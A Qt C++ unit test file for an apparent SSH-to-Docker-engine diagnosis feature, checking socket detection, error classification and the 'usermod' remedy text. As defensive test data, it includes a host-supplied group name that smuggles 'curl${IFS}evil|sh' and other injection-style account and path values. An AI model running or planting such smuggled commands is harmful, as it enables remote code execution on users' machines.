// SPDX-FileCopyrightText: 2026 The Hullwright authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "app/ssh/enginediagnosis.h"

#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

using namespace Hull;
using namespace Qt::StringLiterals;

class EngineDiagnosisTest : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void looksAtTheSocket_data();
    void looksAtTheSocket();
    void namesAccountAndGroup_data();
    void namesAccountAndGroup();
    void explainsDialStdio_data();
    void explainsDialStdio();
    void doesNotClaimThatForwardingIsForbidden();
};

void EngineDiagnosisTest::looksAtTheSocket_data()
{
    QTest::addColumn<QString>("name");
    QTest::addColumn<Error::Kind>("kind");
    QTest::newRow("missing") << u"nothing"_s << Error::Kind::SocketMissing;
    QTest::newRow("missing folder") << u"no/where/s"_s << Error::Kind::SocketMissing;
    QTest::newRow("a file") << u"file"_s << Error::Kind::NotASocket;
    QTest::newRow("a socket") << u"it's a $(socket)"_s << Error::Kind::None;
}

void EngineDiagnosisTest::looksAtTheSocket()
{
    QFETCH(QString, name);
    QFETCH(Error::Kind, kind);
    const QTemporaryDir folder;
    QFile file(folder.filePath(u"file"_s));
    QVERIFY(file.open(QIODevice::WriteOnly));
    const QByteArray path = QFile::encodeName(folder.filePath(u"it's a $(socket)"_s));
    const int server = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un address = {};
    address.sun_family = AF_UNIX;
    std::copy(path.begin(), path.end(), address.sun_path);
    QCOMPARE(::bind(server, reinterpret_cast<const sockaddr*>(&address), sizeof(address)), 0);

    const SshTarget target{.host = u"web"_s, .remoteSocket = folder.filePath(name)};
    QProcess shell;
    shell.start(u"sh"_s, QStringList{});
    shell.write(engineSocketScript(target));
    shell.closeWriteChannel();
    QVERIFY(shell.waitForFinished());
    ::close(server);
    const std::optional<Error> error = engineSocketError(shell.readAllStandardOutput(), target);
    QCOMPARE(errorKindName(error ? error->kind : Error::Kind::None), errorKindName(kind));
    QCOMPARE(shell.readAllStandardError(), QByteArray());
}

void EngineDiagnosisTest::namesAccountAndGroup_data()
{
    QTest::addColumn<QByteArray>("said"); // by the host, which may lie
    QTest::addColumn<QString>("account");
    QTest::addColumn<QString>("command");
    const QString none;
    const QString somebody = u"this account"_s;
    QTest::newRow("names") << QByteArray("ops\ndocker") << u"ops"_s << u"`sudo usermod -aG docker ops`"_s;
    QTest::newRow("numbers") << QByteArray("4242\n54321") << u"4242"_s << u"`sudo usermod -aG 54321 4242`"_s;
    QTest::newRow("odd names") << QByteArray("a.b_c-d\n_x.y-z") << u"a.b_c-d"_s
                               << u"`sudo usermod -aG _x.y-z a.b_c-d`"_s;
    QTest::newRow("no group") << QByteArray("ops\n") << u"ops"_s << u"`sudo usermod -aG docker ops`"_s;
    QTest::newRow("a group that is a command") << QByteArray("ops\ndocker;curl${IFS}evil|sh") << u"ops"_s << none;
    QTest::newRow("an account that is a command") << QByteArray("ops;evil\ndocker") << somebody << none;
    QTest::newRow("an option") << QByteArray("ops\n-R") << u"ops"_s << none;
    QTest::newRow("two words") << QByteArray("ops evil\ndocker") << somebody << none;
    QTest::newRow("nothing") << QByteArray("\n") << somebody << none;
}

void EngineDiagnosisTest::namesAccountAndGroup()
{
    QFETCH(QByteArray, said);
    QFETCH(QString, account);
    QFETCH(QString, command);
    const std::optional<Error> error = engineSocketError("DENIED\n" + said + '\n', {.host = u"web"_s});
    QVERIFY(error);
    QCOMPARE(error->kind, Error::Kind::PermissionDenied);
    QVERIFY2(error->message.english().startsWith(account + " may not"_L1), qPrintable(error->message.english()));
    const QString remedy = error->remedy.english();
    QVERIFY2(remedy.contains(command), qPrintable(remedy));
    QCOMPARE(remedy.contains(u'`'), !command.isEmpty());
    QVERIFY(!(remedy + error->cause.english()).contains("evil"_L1));
}

void EngineDiagnosisTest::explainsDialStdio_data()
{
    QTest::addColumn<int>("exitCode");
    QTest::addColumn<QByteArray>("output");
    QTest::addColumn<QByteArray>("errors");
    QTest::addColumn<Error::Kind>("kind");
    QTest::newRow("no command") << 127 << QByteArray() << QByteArray("bash: line 1: docker: command not found\n")
                                << Error::Kind::ProgramMissing;
    QTest::newRow("no socket") << 1 << QByteArray()
                               << QByteArray("failed to open the raw stream connection: dial unix /x.sock: connect: no "
                                             "such file or directory\n")
                               << Error::Kind::SocketMissing;
    QTest::newRow("denied") << 1 << QByteArray()
                            << QByteArray("failed to open the raw stream connection: dial unix /var/run/docker.sock: "
                                          "connect: permission denied\n")
                            << Error::Kind::PermissionDenied;
    QTest::newRow("nobody listens") << 1 << QByteArray()
                                    << QByteArray("failed to open the raw stream connection: dial unix /x.sock: "
                                                  "connect: connection refused\n")
                                    << Error::Kind::ConnectionRefused;
    QTest::newRow("noise") << -1 << QByteArray("Welcome!\nHTTP/1.1 200 OK\r\n") << QByteArray()
                           << Error::Kind::BadAnswer;
    QTest::newRow("no session")
        << 255 << QByteArray()
        << QByteArray("mux_client_request_session: session request failed: Session open refused by peer\n")
        << Error::Kind::Forbidden;
    QTest::newRow("nothing said") << 1 << QByteArray() << QByteArray() << Error::Kind::ConnectionLost;
}

void EngineDiagnosisTest::explainsDialStdio()
{
    QFETCH(int, exitCode);
    QFETCH(QByteArray, output);
    QFETCH(QByteArray, errors);
    QFETCH(Error::Kind, kind);
    const Error error = dialStdioError(exitCode, output, errors, {.host = u"web"_s, .user = u"ops"_s});
    QCOMPARE(errorKindName(error.kind), errorKindName(kind));
    QVERIFY(error.message.english().contains("web"_L1));
    QVERIFY(!error.remedy.isEmpty());
}

void EngineDiagnosisTest::doesNotClaimThatForwardingIsForbidden()
{
    const SshTarget target{.host = u"web"_s};
    const Error proven = forwardingForbiddenError(target, true);
    QVERIFY(!proven.cause.english().contains("engine"_L1));
    const Error command = dialStdioError(127, {}, "docker: command not found", target);
    for (const Error& error : {forwardingForbiddenError(target, false), afterForwardingError(command, target)}) {
        QVERIFY(error.message != proven.message && error.message != command.message);
        QVERIFY(error.cause.english().contains("No engine listens there"_L1));
        QVERIFY(error.cause.english().contains("forbids"_L1) || error.cause.english().contains("sshd_config"_L1));
    }
    const Error refused = dialStdioError(1, {}, "dial unix /x.sock: connect: connection refused", target);
    QCOMPARE(afterForwardingError(refused, target), refused);
}

QTEST_GUILESS_MAIN(EngineDiagnosisTest)
#include "tst_enginediagnosis.moc"
